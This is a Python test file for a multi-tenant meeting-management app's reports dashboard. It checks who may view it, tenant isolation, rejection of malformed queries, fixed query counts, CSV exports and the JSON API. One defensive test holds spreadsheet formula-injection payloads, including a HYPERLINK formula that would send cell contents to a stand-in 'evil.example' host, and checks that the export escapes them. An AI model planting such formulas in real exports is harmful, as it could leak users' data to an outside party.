"""The tenant's dashboard: who sees it, that it shows only its own tenant, that
its query count does not grow with the meetings, and that its CSV files carry
the same figures as the page."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from ecabinet.models import AuditEvent
from ecabinet.tenancy import tenant_context
from meetings.actions import (
    do_add_item,
    do_add_participant,
    do_close_meeting,
    do_conclude_item,
    do_create_meeting,
    do_open_item,
    do_publish_meeting,
    do_start_meeting,
)
from meetings.models import AgendaItem, Meeting
from reports.measurement import selectors as measurement
from reports.measurement import views as dashboard_views
from reports.models import ReportSettings
from tests.clock import Clock, held_before_the_december_2026_session
from tests.conftest import World
from tests.reports.test_measurement import (
    make_held_meetings,
    open_paper,
    papers_of_the_session,
    run_session,
)

pytestmark = [pytest.mark.django_db, held_before_the_december_2026_session]

URL = "/reports/dashboard/"


def held_session(world: World, clock: Clock) -> Meeting:
    with tenant_context(world.tenant):
        papers = papers_of_the_session(world, clock)
        clock.at(datetime(2026, 11, 30, 12, 0, tzinfo=UTC))
        open_paper(world, world.member, papers["A"])
        return run_session(world, clock)


def body(response: Any) -> str:
    return response.content.decode()


def rows_of(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --- who sees it ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        URL,
        URL + "periods.csv",
        URL + "meetings.csv",
        URL + "meetings/{meeting}/",
        URL + "meetings/{meeting}/items.csv",
        URL + "meetings/{meeting}/reading.csv",
    ],
)
def test_only_the_secretariat_and_the_chair_see_the_dashboard(
    hanoi: World, danang: World, national_admin: Any, path: str
) -> None:
    url = path.format(meeting=hanoi.meeting.pk)
    assert hanoi.client(hanoi.secretary).get(url).status_code == 200
    assert hanoi.client(hanoi.chair).get(url).status_code == 200
    for user in (
        hanoi.vice_chair,
        hanoi.member,
        hanoi.other_member,
        hanoi.guest,
        hanoi.observer,
        national_admin,
    ):
        assert hanoi.client(user).get(url).status_code == 403, user
    # not logged in, or logged in at another tenant (a stranger here): to the login page
    for client in (hanoi.client(), hanoi.client(danang.secretary)):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response["Location"]
    assert hanoi.client(hanoi.secretary).post(url).status_code == 405
    # each refusal is in the audit log
    assert AuditEvent.objects.filter(kind=AuditEvent.Kind.PERMISSION_REFUSED, user=hanoi.member).exists()


def test_another_tenants_meeting_is_not_found(hanoi: World, danang: World) -> None:
    for suffix in ("", "items.csv", "reading.csv"):
        url = f"{URL}meetings/{danang.meeting.pk}/{suffix}"
        assert hanoi.client(hanoi.secretary).get(url).status_code == 404
    assert hanoi.client(hanoi.secretary).get(f"{URL}meetings/999999/").status_code == 404


def test_the_home_page_offers_the_dashboard_to_the_secretariat_and_the_chair(hanoi: World) -> None:
    assert 'id="dashboard-link"' in body(hanoi.client(hanoi.secretary).get("/"))
    assert 'id="dashboard-link"' in body(hanoi.client(hanoi.chair).get("/"))
    assert 'id="dashboard-link"' not in body(hanoi.client(hanoi.member).get("/"))


@pytest.mark.parametrize(
    "query",
    [
        "?by=week",
        "?year=abc",
        "?year=99999",
        "?year=-1",
        "?year=1999",
        "?by=month&year=2101",
        "?year=%C2%B2",  # "²": a digit to str.isdigit, a ValueError to int() — it was a 500
        "?year=%D9%A2%D9%A0%D9%A2%D9%A6",  # 2026 in Arabic-Indic digits
        "?year=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96",  # full-width 2026
    ],
)
def test_a_query_it_cannot_read_is_a_clear_400(hanoi: World, query: str) -> None:
    for url in (URL, URL + "periods.csv", URL + "meetings.csv"):
        response = hanoi.client(hanoi.secretary).get(url + query)
        assert response.status_code == 400
        assert "<h1" in body(response)


# --- what it shows ----------------------------------------------------------------------


def test_the_dashboard_shows_the_tenants_figures_and_nothing_of_another(
    hanoi: World, danang: World, clock: Clock
) -> None:
    # given: a session in each tenant, Đà Nẵng's with a title to look for
    held_session(hanoi, clock)
    with tenant_context(danang.tenant):
        Meeting.objects.filter(pk=danang.meeting.pk).update(title="Phiên họp bí mật của Đà Nẵng")
        make_held_meetings(danang, clock, 3, first_day=5)
        danang_ids = list(Meeting.objects.values_list("pk", flat=True))

    # when
    with translation.override("vi"):
        response = hanoi.client(hanoi.secretary).get(URL + "?year=2026")
    page = body(response)

    # then: Hà Nội's meeting and figures
    assert response.status_code == 200
    assert hanoi.meeting.title in page
    assert f'href="{URL}meetings/{hanoi.meeting.pk}/"' in page
    assert 'id="figure-meetings"><span class="figure-value">1<' in page
    assert "66,7 %" in page  # time saved, the Vietnamese way
    assert "87</span>" in page  # pages not printed
    # nothing of Đà Nẵng's
    assert "Đà Nẵng" not in page
    for pk in danang_ids:
        assert f"{URL}meetings/{pk}/" not in page
    # the charts, drawn on the server, with their titles and Vietnamese labels
    assert page.count("<svg") == 5
    assert "<title" in page and "Thời gian họp so với mốc họp giấy" in page
    assert "12/2026" in page


def test_demo_assumptions_are_marked(hanoi: World, clock: Clock) -> None:
    # given: an assumed baseline, and the price left at its default (an assumption)
    meeting = held_session(hanoi, clock)
    Meeting.all_tenants.filter(pk=meeting.pk).update(baseline_is_assumption=True)
    with translation.override("vi"):
        page = body(hanoi.client(hanoi.secretary).get(URL + "?year=2026"))
        detail = body(hanoi.client(hanoi.secretary).get(f"{URL}meetings/{meeting.pk}/"))
    assert 'id="assumption-note"' in page
    assert "Giả định cho dữ liệu mẫu, không phải số đo" in page
    assert "Giả định cho dữ liệu mẫu, không phải số đo" in detail
    assert "66,7 %*" in page
    assert "Đơn giá một trang in (1.000 đồng) là giả định." in page

    # when the tenant measured both
    Meeting.all_tenants.filter(pk=meeting.pk).update(baseline_is_assumption=False)
    ReportSettings.all_tenants.create(tenant=hanoi.tenant, price_per_page=1200, price_is_assumption=False)
    page = body(hanoi.client(hanoi.secretary).get(URL + "?year=2026"))

    # then no mark is left
    assert 'id="assumption-note"' not in page
    assert "*</" not in page


def test_the_meeting_page_shows_each_item_and_each_members_reading(hanoi: World, clock: Clock) -> None:
    meeting = held_session(hanoi, clock)
    with translation.override("vi"):
        page = body(hanoi.client(hanoi.chair).get(f"{URL}meetings/{meeting.pk}/"))
    for item in hanoi.items:
        assert item.title in page
    assert page.count('class="over-time"') == 1
    assert hanoi.member.full_name in page
    assert hanoi.guest.full_name not in page  # a guest is no member


# --- CSV -----------------------------------------------------------------------------------


def test_the_csv_files_carry_the_figures_of_the_page(hanoi: World, clock: Clock) -> None:
    # given
    held_session(hanoi, clock)
    with tenant_context(hanoi.tenant):
        make_held_meetings(hanoi, clock, 2, first_day=1)
    with translation.override("en"):
        series = measurement.tenant_series(
            hanoi.tenant, start=date(2026, 1, 1), end=date(2026, 12, 31), by="quarter"
        )

    # when
    client = hanoi.client(hanoi.secretary)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    periods = rows_of(client.get(URL + "periods.csv?by=quarter&year=2026"))
    meetings = rows_of(client.get(URL + "meetings.csv?year=2026"))

    # then: one row per quarter, the same numbers
    header, *rows = periods
    assert len(rows) == 4
    column = {name: index for index, name in enumerate(header)}
    for row, period in zip(rows, series, strict=True):
        assert row[column["Period"]] == period.label
        assert int(row[column["Meetings held"]]) == period.meetings_held
        assert int(row[column["Pages saved (pages × recipients)"]]) == period.pages
        assert int(row[column["Money saved (VND)"]]) == period.money
        assert row[column["Time saved (%)"]] == (
            "" if period.saved_percent is None else str(period.saved_percent)
        )
    q4 = rows[3]
    assert q4[column["Meetings held"]] == "3"
    assert q4[column["Baseline is a demo assumption, not measured"]] == "no"
    assert q4[column["Price is a demo assumption, not measured"]] == "yes"
    # one row per meeting held, newest first
    header, *rows = meetings
    column = {name: index for index, name in enumerate(header)}
    assert [r[column["Date"]] for r in rows] == ["01/12/2026", "02/10/2026", "01/10/2026"]
    first = rows[0]
    assert first[column["Meeting"]] == hanoi.meeting.title
    assert (first[column["Actual minutes"]], first[column["Baseline minutes (on paper)"]]) == ("60.0", "180")
    assert first[column["Time saved (%)"]] == "66.7"
    assert first[column["Pages saved (pages × recipients)"]] == "87"
    assert first[column["Items over time"]] == "1"


def test_the_meeting_csv_files(hanoi: World, clock: Clock) -> None:
    meeting = held_session(hanoi, clock)
    client = hanoi.client(hanoi.secretary)
    items = rows_of(client.get(f"{URL}meetings/{meeting.pk}/items.csv"))
    reading = rows_of(client.get(f"{URL}meetings/{meeting.pk}/reading.csv"))
    # Vietnamese by default, down to the header row
    with translation.override("vi"):
        assert items[0] == [name for name, _get in dashboard_views.item_columns()]
    assert items[0][1] == "Nội dung"
    assert items[1:] == [
        ["1", hanoi.items[0].title, "30", "40.0", "10.0", "không"],
        ["2", hanoi.items[1].title, "20", "15.0", "0.0", "không"],
        ["3", hanoi.items[2].title, "15", "0.0", "0.0", "có"],
    ]
    by_name = {row[0]: row for row in reading[1:]}
    assert by_name[hanoi.member.full_name][2:] == ["3", "1", "33.3"]
    assert by_name[hanoi.chair.full_name][2:] == ["2", "0", "0.0"]


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(hanoi: World, clock: Clock) -> None:
    """The attack: a title typed as ``=HYPERLINK(…)`` reaches the secretariat's
    spreadsheet as a live formula. Every cell that starts like one is written
    behind an apostrophe; numbers, negative ones too, stay numbers."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
    with tenant_context(hanoi.tenant):
        for item, title in zip(hanoi.items, hostile, strict=False):
            AgendaItem.objects.filter(pk=item.pk).update(title=title)
    meeting = held_session(hanoi, clock)
    items = rows_of(hanoi.client(hanoi.secretary).get(f"{URL}meetings/{meeting.pk}/items.csv"))
    titles = [row[1] for row in items[1:]]
    assert titles == ["'" + t for t in hostile[: len(titles)]]
    assert items[1][0] == "1"
    from reports.measurement.views import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in (-5, -1.5, None, "Hà Nội", "-")] == [-5, -1.5, "", "Hà Nội", "'-"]


# --- a fixed number of queries -------------------------------------------------------------


def make_meetings_with_papers(world: World, clock: Clock, count: int, *, first_day: int) -> None:
    """More held meetings, each with an item, two participants and a paper."""
    from documents.actions import do_upload_paper
    from tests.documents.conftest import pdf_upload

    with tenant_context(world.tenant):
        for n in range(count):
            start = datetime(2026, 3, first_day + n, 1, 0, tzinfo=UTC)
            clock.at(start - timedelta(days=2))
            meeting = do_create_meeting(
                tenant=world.tenant, title=f"Họp {n}", scheduled_start=start, acting_user=world.secretary
            )
            do_add_item(meeting, title="Nội dung", planned_minutes=20, acting_user=world.secretary)
            do_add_participant(meeting, user=world.member, role="member", acting_user=world.secretary)
            do_add_participant(meeting, user=world.chair, role="chair", acting_user=world.secretary)
            do_publish_meeting(meeting, acting_user=world.secretary)
            do_upload_paper(
                meeting, upload=pdf_upload(pages=2), title="Tờ trình", acting_user=world.secretary
            )
            clock.at(start)
            meeting = do_start_meeting(meeting, acting_user=world.chair)
            do_open_item(meeting, item=None, acting_user=world.chair)
            clock.at(start + timedelta(minutes=25))
            do_conclude_item(meeting, conclusion="Đồng ý.", acting_user=world.chair)
            do_close_meeting(meeting, acting_user=world.chair)


def count(client: Any, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured.captured_queries)


@pytest.mark.parametrize("who", ["secretary", "chair"])
def test_the_dashboard_runs_a_fixed_number_of_queries(
    hanoi: World, clock: Clock, who: str, django_assert_num_queries: Any
) -> None:
    client = hanoi.client(getattr(hanoi, who))
    held_session(hanoi, clock)
    pages = [
        URL + "?year=2026",
        URL + "?by=quarter&year=2026",
        URL + "periods.csv?year=2026",
        URL + "meetings.csv?year=2026",
    ]
    few = [count(client, url) for url in pages]

    make_meetings_with_papers(hanoi, clock, 6, first_day=2)

    assert [count(client, url) for url in pages] == few
    # the page itself: the session, the user, the access check, then the dashboard's reads
    with django_assert_num_queries(few[0]):
        client.get(URL + "?year=2026")
    assert few[0] <= 20


def test_the_meeting_page_runs_a_fixed_number_of_queries(hanoi: World, clock: Clock) -> None:
    # given: a small meeting (one item, two people, one paper) and a larger one
    make_meetings_with_papers(hanoi, clock, 1, first_day=2)
    small = Meeting.all_tenants.get(tenant=hanoi.tenant, title="Họp 0")
    large = held_session(hanoi, clock)  # three items, five people, four papers, a ballot
    client = hanoi.client(hanoi.secretary)

    # then
    assert count(client, f"{URL}meetings/{small.pk}/") == count(client, f"{URL}meetings/{large.pk}/")


# --- the API ---------------------------------------------------------------------------------

API = "/api/v1/reports/dashboard/"


def test_the_api_gives_the_same_figures_to_the_secretariat_and_the_chair(
    hanoi: World, danang: World, clock: Clock
) -> None:
    held_session(hanoi, clock)
    with tenant_context(danang.tenant):
        make_held_meetings(danang, clock, 2, first_day=5)
    series = measurement.tenant_series(hanoi.tenant, start=date(2026, 1, 1), end=date(2026, 12, 31))

    for user in (hanoi.secretary, hanoi.chair):
        response = hanoi.client(user).get(API + "?year=2026")
        assert response.status_code == 200
        data = response.json()
        assert (data["year"], data["by"]) == (2026, "month")
        assert [p["pages"] for p in data["periods"]] == [p.pages for p in series]
        december = data["periods"][11]
        assert (december["meetings_held"], december["saved_percent"], december["on_target"]) == (
            1,
            66.7,
            True,
        )
        assert december["price_is_assumption"] is True
        # Hà Nội's one meeting, nothing of Đà Nẵng's
        assert [m["id"] for m in data["meetings"]] == [hanoi.meeting.pk]
    assert len(hanoi.client(hanoi.secretary).get(API + "?year=2026&by=quarter").json()["periods"]) == 4


def test_the_api_refuses_others_and_bad_queries(hanoi: World, danang: World, national_admin: Any) -> None:
    for user in (hanoi.member, hanoi.guest, hanoi.observer, national_admin):
        response = hanoi.client(user).get(API)
        assert response.status_code == 403
        assert response.json()["error"]
    assert hanoi.client().get(API).status_code in (401, 403)
    assert hanoi.client(danang.secretary).get(API).status_code in (401, 403)
    for query in ("?by=week", "?year=abc", "?year=1999", "?year=2101"):
        response = hanoi.client(hanoi.secretary).get(API + query)
        assert response.status_code == 400, query
        assert response.json()["error"]


def test_the_api_runs_a_fixed_number_of_queries(hanoi: World, clock: Clock) -> None:
    client = hanoi.client(hanoi.secretary)
    held_session(hanoi, clock)
    few = count(client, API + "?year=2026")
    make_meetings_with_papers(hanoi, clock, 4, first_day=2)
    assert count(client, API + "?year=2026") == few
